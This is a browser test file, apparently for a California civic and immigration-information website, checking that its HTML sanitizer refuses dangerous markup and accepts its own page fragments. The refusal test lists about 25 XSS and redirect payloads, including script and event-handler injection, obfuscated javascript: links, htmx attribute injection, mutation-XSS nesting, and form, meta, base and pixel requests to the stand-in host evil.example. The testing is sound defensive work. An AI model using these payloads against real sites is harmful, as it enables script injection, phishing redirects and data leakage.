"""What an answer may hold before it becomes part of a page."""

from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Browser, Page, expect

from tests.browser.conftest import Open
from tests.serving import Served

PUT = """(html) => {
    const room = document.createElement("div");
    document.body.append(room);
    try { room.innerHTML = html; return "taken"; } catch (error) { return error.name; }
}"""


@pytest.fixture(scope="module")
async def tab(chromium: Browser) -> AsyncIterator[Page]:
    """One in which nobody minds what the browser says: it minds some of this itself, aloud, while
    it is read."""
    context = await chromium.new_context(service_workers="block")
    yield await context.new_page()
    await context.close()


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        '<img src="x"onerror=alert(1)>',
        "<a href='java&#115;cript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<base href=https://evil.example/>",
        "<form action=https://evil.example/><input name=code></form>",
        "<button formaction=//evil.example>x</button>",
        "<iframe srcdoc='<script>1</script>'></iframe>",
        "<object data=/x></object>",
        "<embed src=/x>",
        "<link rel=stylesheet href=/x>",
        "<style>*{background:url(//evil.example)}</style>",
        '<div hx-get="https://evil.example/x" hx-trigger="load"></div>',
        '<div hx-on:click="alert(1)"></div>',
        '<div hx-vals="js:{a: 1}"></div>',
        "<template><img src=x onerror=alert(1)></template>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<p style='position:fixed'>x</p>",
        "<img src=https://evil.example/pixel.png>",
        "<video poster=https://evil.example/x></video>",
        "<svg><use href='https://evil.example/x#y'></use></svg>",
        "<input autofocus onfocus=alert(1)>",
        "<x-thing></x-thing>",
    ],
)
async def test_what_could_run_or_lead_away_is_refused(tab: Page, served: Served, html: str) -> None:
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    await tab.goto(f"{served.url}/laws")
    await expect(tab.locator("html[data-ready]")).to_have_count(1)
    assert await tab.evaluate(PUT, html) == "TypeError"
    assert "evil.example" not in tab.url
    assert not any("evil.example" in address for address in asked)


@pytest.mark.parametrize(
    "html",
    [
        "words & <b>words</b>",
        '<a href="/laws" hx-get="/laws" hx-target="#main">x</a>',
        '<a href="https://leginfo.legislature.ca.gov/x" rel="noreferrer">x</a>',
        '<a href="tel:+14155552671">x</a> <a href="mailto:a@example.org">y</a>',
        '<form action="/find" method="get"><input name="q"><button>Find</button></form>',
        '<svg class="icon"><use href="/static/img/icons.svg#pin"/></svg>',
        "<table><tbody><tr><td>1</td></tr></tbody></table>",
        '<img src="data:image/png;base64,AA==" alt="">',
    ],
)
async def test_what_our_pages_are_made_of_is_taken(read: Open, html: str) -> None:
    page = await read("/laws")
    await expect(page.locator("html[data-ready]")).to_have_count(1)
    assert await page.evaluate(PUT, html) == "taken"


async def test_every_piece_that_htmx_gets_passes(read: Open) -> None:
    """The pages themselves, as a whole and without what only a first load brings."""
    page = await read("/laws")
    await expect(page.locator("html[data-ready]")).to_have_count(1)
    for address in ("/", "/counties", "/counties/alameda", "/laws", "/campaigns", "/alerts",
                    "/campaigns/ice-out-of-jails", "/enrollment", "/enrollment/places?zip=94601",
                    "/detained", "/hearings", "/pledges", "/more", "/data"):  # fmt: skip
        said = await page.evaluate(
            """async (address) => {
                const text = await (await fetch(address)).text();
                const from = text.indexOf("<main"), to = text.lastIndexOf("</main>");
                const room = document.createElement("div");
                try { room.innerHTML = text.slice(from, to + 7); return "taken"; }
                catch (error) { return String(error); }
            }""",
            address,
        )
        assert said == "taken", address
